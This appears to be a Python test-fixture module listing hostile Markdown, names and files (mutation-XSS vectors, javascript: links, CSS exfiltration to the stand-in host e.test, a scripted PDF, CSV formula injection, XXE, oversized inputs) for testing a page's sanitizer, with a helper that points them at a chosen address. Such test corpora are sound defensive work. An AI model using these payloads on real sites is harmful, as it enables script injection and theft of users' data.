"""Content and names that would take a page over if anything trusted them. `e.test` stands for another origin."""

import json
from collections.abc import Mapping

_IMG = "<img src=x onerror=alert(1)>"

DOCUMENTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script><script src='http://e.test/a.js'></script><SCRIPT\n>alert(2)</SCRIPT >",
    "script-in-svg": "<svg><script>alert(1)</script><script href='http://e.test/a.js' /></svg>",
    "event-handlers": f"{_IMG}<b onmouseover=alert(1)>b</b><details open ontoggle=alert(2)>"
    "<summary>s</summary></details>"
    "<p onclick='alert(3)'>p</p><video onloadstart=alert(4) src=x></video><body onload=alert(5)>"
    "<a href=# onfocus=alert(6) autofocus>a</a><p/onpointerrawupdate=alert(7)>p</p>",
    "javascript-links": "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(2)) [click](\x01javascript:alert(3))"
    " <a href='java&#10;script:alert(4)'>click</a> <a href='&#106;avascript&colon;alert(5)'>click</a>"
    " <a href='javascript&#x3A;alert(6)'>click</a> <javascript:alert(7)> [click][j]\n\n[j]: javascript:alert(8)",
    "data-links": "[click](data:text/html,<script>alert(1)</script>)"
    " <a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>click</a>"
    " <img src='data:text/html,<script>alert(2)</script>'> <img src='data:image/svg+xml,<svg onload=alert(3)/>'>",
    "other-schemes": "[click](vbscript:msgbox) [click](file:///etc/passwd) [click](blob:x) [click](view-source:x)"
    " ![x](ftp://e.test/x.png) ![x](//e.test/x.png) ![x](\\\\e.test\\x.png)",
    "remote-pictures": "![x](http://e.test/pixel.png) <img srcset='http://e.test/2x.png 2x' src=y>"
    "<picture><source srcset='http://e.test/s.png'><img src=z></picture>"
    "<video poster='http://e.test/p.png'></video><audio src='http://e.test/a' autoplay></audio>"
    "<table background='http://e.test/t.png'><tr><td background='http://e.test/c.png'>c</td></tr></table>"
    "<input type=image src='http://e.test/i.png'><body background='http://e.test/b.png'>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' onload=alert(1)><foreignObject>"
    "<iframe srcdoc='<script>alert(2)</script>'></iframe></foreignObject>"
    "<a xlink:href='javascript:alert(3)'><text>click</text></a>"
    "<image href='http://e.test/i.png'/><use href='http://e.test/u.svg#a'/>"
    "<animate onbegin=alert(4) attributeName=x dur=1s /><set attributeName=onmouseover to=alert(5) /></svg>",
    "mathml": "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>click</maction>"
    "<mi href='javascript:alert(2)'>click</mi><annotation-xml encoding='text/html'><script>alert(3)</script>"
    f"{_IMG}</annotation-xml><mtext><style>*{{display:none}}</style></mtext></math>",
    "math-in-tex": r"$\href{javascript:alert(1)}{x}$ $\text{<img src=x onerror=alert(2)>}$ $$\unicode{<script>}$$"
    "\n\n```math\n\\require{html}\\style{display:none}{x}</math><script>alert(3)</script>\n```\n",
    "clobbering": "<a id=main name=main></a><img name=body><img name=getElementById><form name=querySelector></form>"
    "<form id=forms></form><a id=location href='http://e.test/'>a</a><p id=live>p</p><p id=masthead>m</p>"
    "<p id=tasks data-part>t</p><img id=currentScript name=cookie><a id=defaultView></a><a name=documentElement></a>"
    "\n\n# main\n\n# tasks\n\n# live\n\n# __proto__\n\n# constructor\n\n[^main]\n\n[^main]: x\n",
    "styles": "<style>@import url('http://e.test/s.css');body{display:none}</style>"
    "<p style=\"background:url('http://e.test/b.png');position:fixed;inset:0;z-index:99\">over</p>"
    "<link rel=stylesheet href='http://e.test/l.css'><link rel=preconnect href='http://e.test/'>"
    "<font color='red;background:url(http://e.test/f)'>f</font><p class='live top sign-in skip'>classes</p>",
    "css-exfiltration": "<style>input[value^=a]{background:url(http://e.test/a)}"
    "@font-face{font-family:x;src:url(http://e.test/f)}*{font-family:x}</style>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://e.test/'>"
    '<meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>',
    "base": "<base href='http://e.test/' target=_blank>\n\n[relative](file.txt) ![x](x.png)",
    "forms": "<form action='http://e.test/' method=post><input name=token autofocus><button>Sign in</button></form>"
    "<button formaction='javascript:alert(1)' form=who>Sign out</button><isindex action=javascript:alert(2)>"
    "<input form=who type=submit formaction='http://e.test/'><select autofocus onfocus=alert(3)></select>"
    "<textarea autofocus>t</textarea><keygen autofocus onfocus=alert(4)><dialog open>over</dialog>",
    "frames": "<iframe src='http://e.test/'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"
    "<object data='http://e.test/o'></object><embed src='http://e.test/e'>"
    "<frameset><frame src='javascript:alert(2)'></frameset><applet code=x></applet><portal src='http://e.test/'>",
    "mutation-style-in-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMG}">',
    "mutation-entities-in-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=alert(1)&gt;">',
    "mutation-style-in-svg": f'<svg></p><style><a id="</style>{_IMG}">',
    "mutation-noscript": f'<noscript><p title="</noscript>{_IMG}">',
    "mutation-nested-forms": f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "mutation-foreign-object": f'<svg><annotation-xml><foreignobject><style><!--</style><p id="--><{_IMG[1:]}">',
    "mutation-desc": f'<svg><desc><title><style><!--</style><a id="--!>{_IMG}">',
    "mutation-raw-text": f'<xmp><p title="</xmp>{_IMG}"></xmp><noembed><a title="</noembed>{_IMG}"></noembed>'
    f'<textarea><a title="</textarea>{_IMG}"></textarea><title><a title="</title>{_IMG}"></title>'
    f'<noframes><a title="</noframes>{_IMG}"></noframes><plaintext>{_IMG}',
    "mutation-select-and-template": f"<select><template><style></select>{_IMG}</template></select>"
    f"<template shadowrootmode=open><slot></slot><script>alert(1)</script>{_IMG}</template>",
    "mutation-deep": "<div>" * 600 + f'<svg><style><a title="</style>{_IMG}">' + "</div>" * 600,
    "unclosed-tags": "</section></details></article></main></body></html><h1>taken</h1><main id=main>over</main>"
    "<div><b><i><table><tr><td><a href=x><ul><li><code><pre><h1 id=live>over",
    "unclosed-attribute": '<a href="x" title="\n\n<img src="x" alt=\'\n\n<b class="never closed\n\nafter',
    "comments": f"<!--> {_IMG} -->  <!--x--!>{_IMG}  <!---->{_IMG}  <!-- never closed {_IMG}",
    "declarations": f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "y">]><![CDATA[{_IMG}]]><!ELEMENT {_IMG}>&x;'
    f"<?php echo 1 ?><%= 1 %><!--[if gte IE 4]>{_IMG}<![endif]-->",
    "code": f'```html\n<script>alert(1)</script>\n```\n\n~~~ "onload=alert(1) class=x\n{_IMG}\n~~~\n\n'
    "`<script>alert(2)</script>`",
    "markdown-attributes": '![x](y "\\" onerror=alert(1) \\"") [x](y "\' onclick=alert(2) \'")'
    ' ![`" onerror=alert(3)`](x) <http://e.test/"onclick=alert(4)>\n\n# h {onclick=alert(5) id=main}\n',
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(2)"\n```',
    "details": f"<details open><summary>{_IMG}</summary>\n\n**inside** {_IMG}\n\n<details><summary>never closed",
    "right-to-left": "\u202e# gnihton\u202c \u2066isolated <b>b</b> \u061c \u200f never closed \u202e",
    "controls": "nul \x00 bell \x07 escape \x1b[31m \x1b]8;;http://e.test/\x07link\x1b]8;;\x07 form\x0cfeed",
}
"""Markdown by what it tries."""

TOO_MUCH: Mapping[str, str] = {
    "one-line-of-a-mebibyte": "x" * (1024 * 1024),
    "nested-quotes": ">" * 100_000 + " deep",
    "nested-lists": "".join(f"{' ' * (2 * depth)}- x\n" for depth in range(700)),
    "emphasis": "*a **b " * 20_000,
    "open-brackets": "[" * 50_000,
    "open-tags": "<b>" * 60_000,
    "backticks": "".join("`" * length + " " for length in range(1, 700)),
    "table-of-many-columns": "|a" * 4_000 + "|\n" + "|-" * 4_000 + "|\n" + "|1" * 4_000 + "|\n",
    "links-to-each-other": "".join(f"[{number}]: {number + 1}\n" for number in range(5_000)) + "[0] " * 5_000,
}
"""Markdown that wants more time or memory than it may have."""

NAMES: Mapping[str, str] = {
    "script": "</title><script>alert(1)</script>",
    "picture": _IMG,
    "double-quoted": '" onmouseover="alert(1)" autofocus onfocus="alert(2)" x="',
    "single-quoted": "' onmouseover='alert(1)' style='position:fixed;inset:0'",
    "unquoted": "x onmouseover=alert(1) href=javascript:alert(2)",
    "javascript": "javascript:alert(1)",
    "entities": "&lt;img src=x onerror=alert(1)&gt;&quot;&#39;&amp;",
    "template": "{{ 7*7 }}{% raw %}${alert(1)}#{1}",
    "closing": "</bdi></a></h1></main></details><h1>taken</h1>",
    "comment": "<!-- ]]> --><!--",
    "address": "..%2f..?next=http://e.test/#x\\\\e.test",
    "right-to-left": "\u202egnp.exe\u202c \u2066\u061c\u200f",
    "controls": "line\nbreak\ttab \x1b[31m \x07 \u2028 \u200b\ufeff",
    "emoji": "\U0001f469\u200d\U0001f52c e\u0301 \ufdfd" + "\u0301" * 60,
    "clobbering": "__proto__ constructor main live",
}
"""Names by what they try, for runs, tasks, owners, nodes, jobs, reasons and files."""

_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload='alert(1)'"
    " width='90' height='60'><script>alert(2); fetch('http://e.test/f')</script>"
    "<script href='http://e.test/s.js'/><foreignObject width='90' height='60'>"
    "<body xmlns='http://www.w3.org/1999/xhtml' onload='alert(3)'><img src='x' onerror='alert(4)'/>"
    "<iframe src='http://e.test/i'/><form action='http://e.test/'>"
    "<input autofocus='' onfocus='alert(5)'/></form></body></foreignObject>"
    "<image href='http://e.test/p.png' width='9' height='9'/>"
    "<style>@import url(http://e.test/c.css); * { fill: url(http://e.test/d) }</style>"
    "<a xlink:href='javascript:alert(6)'><rect width='90' height='60'/></a></svg>"
)
_HTML = (
    "<!doctype html><script>alert(1); fetch('http://e.test/x')</script><img src=http://e.test/p.png>"
    "<meta http-equiv=refresh content='0;url=http://e.test/'>"
)
_PDF = (
    "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    "/AA<</O<</S/URI/URI(http://e.test/)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"<script>alert(1)</script>{_IMG}"}},
    {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(2)"}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": _SVG}},
    {"output_type": "display_data", "metadata": {}, "data": {"text/latex": "$\\href{javascript:alert(3)}{click}$"}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/png": '"><script>alert(4)</script>'}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/png": _PIXEL}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/png;base64,x' onerror='alert(7)": _PIXEL}},
    {"output_type": "stream", "name": '"><script>alert(5)</script>', "text": [_IMG, "\x1b[31m</pre><h1>taken</h1>"]},
    {"output_type": "error", "ename": _IMG, "evalue": _IMG, "traceback": [_IMG]},
]
_CELLS = [
    {"cell_type": "markdown", "metadata": {}, "source": f"# taken\n\n{_IMG}<style>*{{display:none}}</style>"},
    {"cell_type": "code", "metadata": {}, "execution_count": _IMG, "source": _IMG, "outputs": _OUTPUTS},
    {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": "<script>alert(6)</script>"},
]
FILES: Mapping[str, str] = {
    "drawing.svg": _SVG,
    "entities.svg": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'http://e.test/e'>]><svg xmlns='http://www.w3.org/2000/svg'>"
    "<text>&x;</text></svg>",
    "page.png": _HTML,
    "page.html": _HTML,
    "page.xml": "<?xml-stylesheet type='text/xsl' href='http://e.test/x.xsl'?>"
    "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "page": _HTML,
    "notebook.ipynb": json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {"language_info": {"name": _IMG}}, "cells": _CELLS}
    ),
    "paper.pdf": _PDF,
    "table.csv": f"{_IMG},=cmd|'/c calc'!A1,\"{_IMG}\"\n</td></table><h1>taken</h1>,2,javascript:alert(1)\n",
    "value.json": json.dumps({_IMG: [_IMG, {"__proto__": "</script><script>alert(1)</script>"}]}),
    "program.py": f"# {_IMG}\nx = '</pre></code><h1>taken</h1>'\n",
    "terminal.log": f"\x1b[31m{_IMG}\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07</pre><h1>taken</h1>\n",
}
"""Files by name, opened by themselves and shown on the pages of their task."""


def named(name: str) -> Mapping[str, str]:
    """Files in which a name stands where formats have names: columns, keys, cells, lines."""
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": name},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": name, "outputs": _said(name)},
    ]
    language = {"language_info": {"name": name}}
    quoted = name.replace('"', '""')
    return {
        "table.csv": f'"{quoted}",b\n"{quoted}",2\n',
        "value.json": json.dumps({name: [name, {name: None}]}),
        "notebook.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": language, "cells": cells}),
        "lines.log": f"{name}\n" * 3,
        "series_1.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><!--{len(name)}--></svg>",
    }


def _said(name: str) -> list[object]:
    return [
        {"output_type": "stream", "name": name, "text": name},
        {"output_type": "error", "ename": name, "evalue": name, "traceback": [name]},
        {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": name}},
    ]


def aimed(content: str, elsewhere: str) -> bytes:
    """Let an attack talk to this address."""
    return content.replace("e.test", elsewhere.removeprefix("http://")).encode()
